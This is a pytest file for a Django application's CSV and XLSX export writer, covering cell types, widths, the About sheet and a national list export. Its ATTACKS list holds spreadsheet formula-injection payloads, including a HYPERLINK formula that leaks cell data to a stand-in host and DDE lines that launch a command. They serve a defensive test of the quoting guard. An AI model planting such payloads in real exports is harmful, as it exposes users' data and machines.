"""The export writer: cell types in CSV and XLSX, the formula-injection guard, the XLSX's
frozen and filterable header, widths and About sheet; and the national list's export."""

import codecs
import csv
import datetime
import io
import zipfile
from decimal import ROUND_HALF_UP, Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse

from apps.core import exports
from apps.core.exports import BOOLEAN, DATE, DATETIME, DECIMAL, INTEGER, MONEY, TEXT, About, ExportColumn
from apps.organisations.models import Organisation

UTC = datetime.UTC

COLUMNS = [
    ExportColumn("Text", "t"),
    ExportColumn("Count", "i", INTEGER),
    ExportColumn("Per CCG", "d", DECIMAL, decimals=1),
    ExportColumn("Cost (£)", "m", MONEY),
    ExportColumn("Overdue", "b", BOOLEAN),
    ExportColumn("Deadline", "day", DATE),
    ExportColumn("Last update", "when", DATETIME),
]
SUMMER = (
    "Cost £5",
    42,
    Decimal("550.6667"),
    Decimal("1500"),
    True,
    datetime.date(2012, 10, 31),
    datetime.datetime(2012, 7, 1, 11, 30, 15, tzinfo=UTC),  # 12:30 in London (BST)
)
WINTER = (
    "Plain",
    0,
    Decimal("0"),
    Decimal("0.004"),
    False,
    datetime.date(2013, 1, 2),
    datetime.datetime(2012, 12, 1, 11, 30, tzinfo=UTC),  # 11:30 in London (GMT)
)
EMPTY = (None,) * len(COLUMNS)

# Each of these begins a formula in Excel, LibreOffice or Google Sheets.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def _csv(columns, rows):
    text = "".join(exports.csv_lines(columns, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(columns, rows, about=None):
    target = io.BytesIO()
    about = about or About(title="Test list", exported_at=datetime.datetime(2013, 3, 4, 9, 5, tzinfo=UTC))
    count = exports.write_xlsx(target, columns, rows, about)
    return openpyxl.load_workbook(io.BytesIO(target.getvalue())), target.getvalue(), count


def _all_cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


# --- The guard ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ATTACKS)
def test_guard_prefixes_a_quote_to_text_that_would_start_a_formula(text):
    assert exports.guard(text) == "'" + text


@pytest.mark.parametrize("text", ["Board development", "", "'=already quoted", "1-2", "a=b", "£500", "#N/A"])
def test_guard_leaves_other_text_alone(text):
    assert exports.guard(text) == text


def test_clean_text_drops_control_characters_a_spreadsheet_cannot_hold_and_guards():
    assert exports.clean_text("Bad\x00 \x07text\x1f") == "Bad text"
    assert exports.clean_text("Tab\there\nand line\r\nbreaks") == "Tab\there\nand line\r\nbreaks"
    assert exports.clean_text("\x01=1+1") == "'=1+1"
    assert exports.clean_text(None) == ""
    assert exports.clean_text(12) == "12"


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_writes_each_type_as_excel_reads_it():
    header, summer, winter, empty = _csv(COLUMNS, [SUMMER, WINTER, EMPTY])
    assert header == ["Text", "Count", "Per CCG", "Cost (£)", "Overdue", "Deadline", "Last update"]
    assert summer == ["Cost £5", "42", "550.7", "1500.00", "Yes", "2012-10-31", "2012-07-01 12:30"]
    assert winter == ["Plain", "0", "0.0", "0.00", "No", "2013-01-02", "2012-12-01 11:30"]
    assert empty == [""] * len(COLUMNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_guards_every_text_cell_and_only_text_cells(attack):
    columns = [ExportColumn("Title", "t"), ExportColumn("Change", "n", INTEGER)]
    _, row = _csv(columns, [(attack, -5)])
    assert row == ["'" + attack, "-5"]  # a negative number stays a number


def test_csv_headers_are_guarded_too():
    header, _ = _csv([ExportColumn("=Total", "t")], [("x",)])
    assert header == ["'=Total"]


def test_csv_response_is_streamed_utf8_with_a_bom_so_excel_shows_the_pound_sign():
    response = exports.csv_response(COLUMNS, iter([SUMMER]), "list-2013-03-04.csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="list-2013-03-04.csv"'
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)
    assert "Cost (£)".encode() in body and "Cost £5".encode() in body


def test_csv_keeps_long_text_whole():
    _, row = _csv([ExportColumn("Narrative", "t")], [("x" * 40000,)])
    assert len(row[0]) == 40000


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_writes_dates_as_dates_numbers_as_numbers_and_yes_no_as_text():
    workbook, _, count = _xlsx(COLUMNS, [SUMMER, WINTER, EMPTY])
    sheet = workbook.worksheets[0]
    assert count == 3
    header, summer, winter, empty = list(sheet.iter_rows(min_row=1, max_row=4, max_col=len(COLUMNS)))
    assert [c.value for c in header] == [c.header for c in COLUMNS]
    assert all(c.font.bold for c in header)
    text, count_, per_ccg, cost, overdue, deadline, updated = summer
    assert (text.value, text.data_type) == ("Cost £5", "s")
    assert (count_.value, count_.data_type) == (42, "n")
    assert (per_ccg.value, per_ccg.data_type, per_ccg.number_format) == (550.7, "n", "0.0")
    assert (cost.value, cost.data_type, cost.number_format) == (1500, "n", "#,##0.00")
    assert (overdue.value, overdue.data_type) == ("Yes", "s")
    assert deadline.is_date and deadline.value == datetime.datetime(2012, 10, 31)
    assert deadline.number_format == "dd/mm/yyyy"
    assert updated.is_date and updated.value == datetime.datetime(2012, 7, 1, 12, 30, 15)  # London, BST
    assert updated.number_format == "dd/mm/yyyy hh:mm"
    assert [c.value for c in winter] == [
        "Plain",
        0,
        0,
        0,
        "No",
        datetime.datetime(2013, 1, 2),
        datetime.datetime(2012, 12, 1, 11, 30),  # GMT
    ]
    assert [c.value for c in empty] == [None] * len(COLUMNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_never_holds_a_formula_from_the_data(attack):
    about = About(title="Test", filters=[("Search", attack)], exported_by=attack, exported_at=None)
    workbook, raw, _ = _xlsx(
        [ExportColumn("Title", "t"), ExportColumn("Score", "n", INTEGER)], [(attack, -5)], about
    )
    title, score = workbook.worksheets[0][2]
    assert (title.value, title.data_type) == ("'" + attack, "s")
    assert (score.value, score.data_type) == (-5, "n")
    assert not [c.coordinate for c in _all_cells(workbook) if c.data_type == "f"]
    about_values = [c.value for c in _all_cells(workbook) if c.parent.title == "About this export"]
    assert "'" + attack in about_values and attack not in about_values
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            xml = package.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml


def test_xlsx_writes_text_that_looks_like_an_error_code_as_text():
    workbook, _, _ = _xlsx([ExportColumn("Cost", "t")], [("#N/A",), ("#DIV/0!",)])
    cells = [row[0] for row in workbook.worksheets[0].iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("#DIV/0!", "s")]


def test_xlsx_drops_control_characters_and_cuts_text_to_excels_cell_limit():
    workbook, _, _ = _xlsx([ExportColumn("Narrative", "t")], [("Bad\x00\x0btext",), ("x" * 40000,)])
    sheet = workbook.worksheets[0]
    assert sheet["A2"].value == "Badtext"
    assert len(sheet["A3"].value) == 32767


def test_xlsx_header_is_frozen_and_filterable_over_the_data():
    workbook, raw, _ = _xlsx(COLUMNS, [SUMMER, WINTER, EMPTY])
    sheet = workbook.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G4"
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        assert "_xlnm._FilterDatabase" in package.read("xl/workbook.xml").decode()


def test_xlsx_column_widths_are_readable_and_within_excels_limit():
    columns = [
        ExportColumn("ID", "pk", INTEGER),
        ExportColumn("Deliverable / action", "title", width=60),
        ExportColumn("A very long header that would make a very wide column indeed", "x"),
        ExportColumn("Declared too wide", "y", width=500),
        ExportColumn("Deadline", "d", DATE),
    ]
    workbook, _, _ = _xlsx(columns, [(1, "a", "b", "c", datetime.date(2012, 1, 1))])
    widths = [workbook.worksheets[0].column_dimensions[letter].width for letter in "ABCDE"]
    assert widths == [9, 60, 60, 60, 12]
    assert all(w <= exports.EXCEL_MAX_COLUMN_WIDTH for w in widths)


def test_xlsx_about_sheet_says_which_filters_produced_the_file_and_when():
    about = About(
        title="Deliverables",
        filters=[("Status", "In progress; Delivered"), ("Overdue", "Yes")],
        sorted_by="Deadline (descending)",
        exported_by="Jane Smith (jsmith)",
        exported_at=datetime.datetime(2013, 7, 4, 8, 5, tzinfo=UTC),
        address="/deliverables/?overdue=true",
    )
    workbook, _, _ = _xlsx(COLUMNS, [SUMMER, WINTER], about)
    assert workbook.sheetnames == ["Deliverables", "About this export"]
    lines = {row[0]: row[1:] for row in workbook["About this export"].iter_rows(values_only=True) if row[0]}
    assert lines["Export of"] == ("Deliverables",)
    assert lines["Exported at (Europe/London time)"] == (datetime.datetime(2013, 7, 4, 9, 5),)
    assert lines["Exported by"] == ("Jane Smith (jsmith)",)
    assert lines["Rows"] == (2,)
    assert lines["Sorted by"] == ("Deadline (descending)",)
    assert lines["Address of the list"] == ("/deliverables/?overdue=true",)
    assert lines["Status"] == ("In progress; Delivered",) and lines["Overdue"] == ("Yes",)
    assert "None" not in lines


def test_xlsx_about_sheet_says_when_no_filter_was_applied_and_when_one_was_not_understood():
    workbook, _, _ = _xlsx(COLUMNS, [], About(title="Risks", exported_at=None))
    lines = {row[0]: row[1:] for row in workbook["About this export"].iter_rows(values_only=True) if row[0]}
    assert lines["None"] == ("Every row the person exporting may see.",)
    assert lines["Rows"] == (0,)
    about = About(title="Risks", filter_errors=[("Deadline between", "not-a-date")], exported_at=None)
    workbook, _, _ = _xlsx(COLUMNS, [], about)
    lines = {row[0]: row[1:] for row in workbook["About this export"].iter_rows(values_only=True) if row[0]}
    assert lines["Deadline between"] == ("Not understood: not-a-date. No rows were exported.",)
    assert "None" not in lines


def test_sheet_titles_are_ones_excel_accepts():
    assert exports.sheet_title("Risks: high/extreme [open]?") == "Risks  high extreme  open"
    assert exports.sheet_title("'Quoted'") == "Quoted"
    assert len(exports.sheet_title("x" * 40)) == 31


# --- Columns ------------------------------------------------------------------------------------


def test_a_column_of_an_unknown_type_is_refused():
    with pytest.raises(ValueError, match="Unknown export type"):
        ExportColumn("Score", "score", "float")


def test_every_type_has_a_default_width():
    assert set(exports.DEFAULT_WIDTHS) == set(exports.TYPES)
    assert TEXT in exports.TYPES


def test_choice_label_maps_stored_values_to_labels():
    label = exports.choice_label([("open", "Open"), ("closed", "Closed")])
    assert [label("open"), label("closed"), label("other"), label(None)] == ["Open", "Closed", "other", None]


# --- Rows from the database ---------------------------------------------------------------------


@pytest.mark.django_db
def test_export_rows_compute_person_names_in_the_database(django_user_model):
    django_user_model.objects.create(username="jsmith", first_name="Jane", last_name="Smith")
    django_user_model.objects.create(username="nobody")
    queryset = django_user_model.objects.filter(username__in=["jsmith", "nobody"]).order_by("username")
    columns = [ExportColumn("Name", exports.person_name(""))]
    assert list(exports.export_rows(queryset, columns)) == [("Jane Smith",), ("nobody",)]


@pytest.mark.django_db
def test_the_rows_are_read_in_a_transaction_of_their_own_that_ends_with_them():
    baseline = len(connection.savepoint_ids)
    rows = exports.export_rows(Organisation.objects.order_by("pk"), [ExportColumn("Name", "name")])
    assert next(rows)
    assert len(connection.savepoint_ids) == baseline + 1  # the cursor's transaction is open
    rows.close()
    assert len(connection.savepoint_ids) == baseline


@pytest.mark.django_db
def test_a_csv_download_cut_short_ends_the_export_transaction(django_user_model):
    django_user_model.objects.bulk_create(django_user_model(username=f"bulk{i}") for i in range(600))
    baseline = len(connection.savepoint_ids)
    columns = [ExportColumn("Username", "username")]
    rows = exports.export_rows(django_user_model.objects.order_by("pk"), columns)
    response = exports.csv_response(columns, rows, "people.csv")
    stream = iter(response.streaming_content)
    assert next(stream).startswith(codecs.BOM_UTF8)  # the header
    assert next(stream).count(b"\r\n") == exports.CSV_ROWS_PER_CHUNK
    assert len(connection.savepoint_ids) == baseline + 1
    response.close()  # what the server does when the client goes away
    assert len(connection.savepoint_ids) == baseline


# --- The national list --------------------------------------------------------------------------

NATIONAL = reverse("organisations:national")


def _per_ccg(lat):
    return (Decimal(lat.population_thousands) / lat.ccg_count).quantize(Decimal("0.1"), ROUND_HALF_UP)


@pytest.fixture
def logged_in(client, staff_dorset):
    client.force_login(staff_dorset)
    return client


@pytest.mark.django_db
def test_national_xlsx_has_every_column_of_the_page_with_the_figures_as_numbers(logged_in):
    response = logged_in.get(NATIONAL, {"_export": "xlsx", "sort": "-population_thousands"})
    assert response.status_code == HTTPStatus.OK
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Local area teams"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Local area team",
        "Region",
        "Population (000s)",
        "CCGs",
        "HWBs",
        "Population per CCG (000s)",
        "Specialised commissioning hub",
    )
    assert len(rows) - 1 == 27
    first = Organisation.objects.get(name=rows[1][0])
    assert first.name == "South London"  # the page's sort
    assert rows[1][1] == first.parent.name
    assert rows[1][2:5] == (first.population_thousands, first.ccg_count, first.hwb_count)
    assert isinstance(rows[1][2], int) and isinstance(rows[1][5], float)
    assert rows[1][5] == float(_per_ccg(first))
    assert sheet.cell(row=2, column=6).number_format == "0.0"
    about = {row[0]: row[1] for row in workbook["About this export"].iter_rows(values_only=True) if row[0]}
    assert about["Sorted by"] == "Population (000s) (descending)"


@pytest.mark.django_db
def test_national_csv_keeps_the_filter_and_writes_plain_numbers(logged_in):
    london = Organisation.objects.get(slug="london")
    response = logged_in.get(NATIONAL, {"region": london.pk, "_export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    lats = Organisation.objects.filter(parent=london, kind=Organisation.Kind.LAT)
    assert sorted(r[0] for r in rows[1:]) == sorted(lats.values_list("name", flat=True))
    for row in rows[1:]:
        lat = lats.get(name=row[0])
        assert row[2:5] == [str(lat.population_thousands), str(lat.ccg_count), str(lat.hwb_count)]
        assert row[5] == str(_per_ccg(lat))
